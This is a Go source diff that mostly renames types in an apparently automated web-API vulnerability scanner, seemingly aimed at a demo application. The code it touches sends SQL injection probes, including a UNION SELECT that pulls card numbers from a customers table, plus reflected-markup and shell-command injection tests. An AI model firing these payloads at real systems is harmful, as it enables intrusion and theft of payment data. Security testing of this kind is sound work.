@@ -1,4 +1,4 @@
-package main
+package attack
 
 import (
 	"context"
@@ -13,8 +13,8 @@ import (
 type written struct{ text, as, name string }
 
 // sent builds the exploit that puts text at p and asks judge about the answer.
-func (o *attackOp) sent(p place, w written, judge func(*attackAnswerOf) string) exploit {
-	return func(ctx context.Context, s *attackSession) (string, error) {
+func (o *operation) sent(p place, w written, judge func(*answer) string) exploit {
+	return func(ctx context.Context, s *session) (string, error) {
 		a, err := s.send(ctx, o.request(&p, w.text, w.as))
 		if err != nil {
 			return "", err
@@ -27,9 +27,9 @@ func (o *attackOp) sent(p place, w written, judge func(*attackAnswerOf) string) 
 // yes and once no: two answers that differ, though only the condition did, mean
 // that the condition was evaluated. The no is asked twice, as some answers never
 // are the same.
-func (o *attackOp) pair(p place, yes, no written, differ func(yes, no *attackAnswerOf) string) exploit {
-	return func(ctx context.Context, s *attackSession) (string, error) {
-		var all [3]*attackAnswerOf
+func (o *operation) pair(p place, yes, no written, differ func(yes, no *answer) string) exploit {
+	return func(ctx context.Context, s *session) (string, error) {
+		var all [3]*answer
 		for i, w := range []written{no, no, yes} {
 			a, err := s.send(ctx, o.request(&p, w.text, w.as))
 			if err != nil {
@@ -49,7 +49,7 @@ func (o *attackOp) pair(p place, yes, no written, differ func(yes, no *attackAns
 }
 
 // each visits every place of every operation that is attacked.
-func (r *attackRun) each(ctx context.Context, visit func(o *attackOp, p place)) {
+func (r *runner) each(ctx context.Context, visit func(o *operation, p place)) {
 	for _, o := range r.ops {
 		if strings.HasSuffix(o.path, "/events") {
 			continue // does not end
@@ -64,13 +64,13 @@ func (r *attackRun) each(ctx context.Context, visit func(o *attackOp, p place)) 
 }
 
 // restore writes what is right over what the tries wrote, bare.
-func (r *attackRun) restore(ctx context.Context, o *attackOp) {
+func (r *runner) restore(ctx context.Context, o *operation) {
 	if o.method == http.MethodPatch || o.method == http.MethodPut {
 		_, _ = r.bare.send(ctx, o.request(nil, "", "")) // as good as it can be
 	}
 }
 
-func (o *attackOp) called(p place, what string) string {
+func (o *operation) called(p place, what string) string {
 	return fmt.Sprintf("%s %s, %s: %s", o.method, o.path, p, what)
 }
 
@@ -78,25 +78,25 @@ var databaseError = regexp.MustCompile(`(?i)SQL logic error|SQLSTATE|ORA-[0-9]{5
 
 // sqlInjection looks for places where a quote or an expression reaches the
 // database, then takes what it can there, written in many ways.
-func (r *attackRun) sqlInjection(ctx context.Context) {
-	sameStatus := func(yes, no *attackAnswerOf) string {
+func (r *runner) sqlInjection(ctx context.Context) {
+	sameStatus := func(yes, no *answer) string {
 		if yes.ok() && no.status >= 500 {
 			return "an expression of the caller's was evaluated"
 		}
 		return ""
 	}
-	sameBody := func(yes, no *attackAnswerOf) string {
+	sameBody := func(yes, no *answer) string {
 		if yes.ok() && no.ok() && len(yes.body) > len(no.body) {
 			return fmt.Sprintf("a condition of the caller's decided: %d bytes of answer if true, %d if false", len(yes.body), len(no.body))
 		}
 		return ""
 	}
-	r.each(ctx, func(o *attackOp, p place) {
+	r.each(ctx, func(o *operation, p place) {
 		right := o.at(p)
-		if p.in == "path" || p.in == "header" && slices.Contains(attackHeaders, p.name) {
+		if p.in == "path" || p.in == "header" && slices.Contains(commonHeaders, p.name) {
 			right = "zq"
 		}
-		breaks := r.try(ctx, rowSQL, o.called(p, "the database's error"), "a quote", o.sent(p, written{text: right + "'"}, func(a *attackAnswerOf) string {
+		breaks := r.try(ctx, rowSQL, o.called(p, "the database's error"), "a quote", o.sent(p, written{text: right + "'"}, func(a *answer) string {
 			if m := databaseError.FindString(a.body); m != "" {
 				return "the answer says " + m
 			}
@@ -122,10 +122,10 @@ func (r *attackRun) sqlInjection(ctx context.Context) {
 
 // union finds how many columns the query has, then reads what the database
 // computes, and the tables' own texts, in many ways of writing.
-func (r *attackRun) union(ctx context.Context, o *attackOp, p place, begin string) {
+func (r *runner) union(ctx context.Context, o *operation, p place, begin string) {
 	a, b, product := numbers()
 	value := fmt.Sprintf("'zq'||(%d*%d)", a, b)
-	judge := func(ans *attackAnswerOf) string {
+	judge := func(ans *answer) string {
 		if strings.Contains(ans.body, "zq"+product) {
 			return "the database computed zq" + product
 		}
@@ -134,7 +134,7 @@ func (r *attackRun) union(ctx context.Context, o *attackOp, p place, begin strin
 	for columns := 1; columns <= 12; columns++ {
 		list := strings.TrimSuffix(strings.Repeat(value+",", columns), ",")
 		plain := begin + " UNION SELECT " + list + " -- "
-		found, err := o.sent(p, written{text: plain}, judge)(ctx, &attackSession{run: r, target: r.bare})
+		found, err := o.sent(p, written{text: plain}, judge)(ctx, &session{run: r, target: r.bare})
 		if r.ended(ctx, err) {
 			return
 		}
@@ -147,7 +147,7 @@ func (r *attackRun) union(ctx context.Context, o *attackOp, p place, begin strin
 		}
 		// What is worth stealing: another customer's card, where the table is the demo's.
 		steal := strings.TrimSuffix(strings.Repeat("card_number,", columns), ",")
-		r.try(ctx, rowSQL, o.called(p, "UNION takes all card numbers"), "plain", o.sent(p, written{text: begin + " UNION SELECT " + steal + " FROM customers -- "}, func(ans *attackAnswerOf) string {
+		r.try(ctx, rowSQL, o.called(p, "UNION takes all card numbers"), "plain", o.sent(p, written{text: begin + " UNION SELECT " + steal + " FROM customers -- "}, func(ans *answer) string {
 			if strings.Contains(ans.body, "5555555555554444") {
 				return "bob's card number, 5555…4444"
 			}
@@ -179,10 +179,10 @@ func sqlWritings(plain string, p place) []written {
 }
 
 // scripting looks for places whose text comes back as markup.
-func (r *attackRun) scripting(ctx context.Context) {
+func (r *runner) scripting(ctx context.Context) {
 	probe := "zq<i>zq"
-	judge := func(payload string) func(*attackAnswerOf) string {
-		return func(a *attackAnswerOf) string {
+	judge := func(payload string) func(*answer) string {
+		return func(a *answer) string {
 			kind := a.header.Get("Content-Type")
 			if !a.refused() && (kind == "" || strings.HasPrefix(kind, "text/html")) && strings.Contains(a.body, payload) {
 				return "the page holds " + cut(payload, 60)
@@ -190,8 +190,8 @@ func (r *attackRun) scripting(ctx context.Context) {
 			return ""
 		}
 	}
-	r.each(ctx, func(o *attackOp, p place) {
-		found, err := o.sent(p, written{text: probe}, judge(probe))(ctx, &attackSession{run: r, target: r.bare})
+	r.each(ctx, func(o *operation, p place) {
+		found, err := o.sent(p, written{text: probe}, judge(probe))(ctx, &session{run: r, target: r.bare})
 		if r.ended(ctx, err) || found == "" {
 			return
 		}
@@ -223,15 +223,15 @@ func scriptWritings(p place) []written {
 }
 
 // commands looks for places whose text reaches a shell.
-func (r *attackRun) commands(ctx context.Context) {
-	r.each(ctx, func(o *attackOp, p place) {
+func (r *runner) commands(ctx context.Context) {
+	r.each(ctx, func(o *operation, p place) {
 		if p.in == "path" {
 			return
 		}
 		for n, w := range shellWritings(p) {
 			a, b, product := numbers()
 			w.text = strings.NewReplacer("A", fmt.Sprint(a), "B", fmt.Sprint(b)).Replace(w.text)
-			worked := r.try(ctx, rowRCE, o.called(p, "the shell computes"), w.name, o.sent(p, w, func(ans *attackAnswerOf) string {
+			worked := r.try(ctx, rowRCE, o.called(p, "the shell computes"), w.name, o.sent(p, w, func(ans *answer) string {
 				if !ans.refused() && strings.Contains(ans.body, product) {
 					return "the shell computed " + product
 				}
@@ -268,7 +268,7 @@ func shellWritings(p place) []written {
 }
 
 // found counts the tries of a name that worked bare.
-func (r *attackRun) found(row, name string) (n int) {
+func (r *runner) found(row, name string) (n int) {
 	for _, t := range r.tries {
 		if t.Row == row && t.Name == name {
 			n++
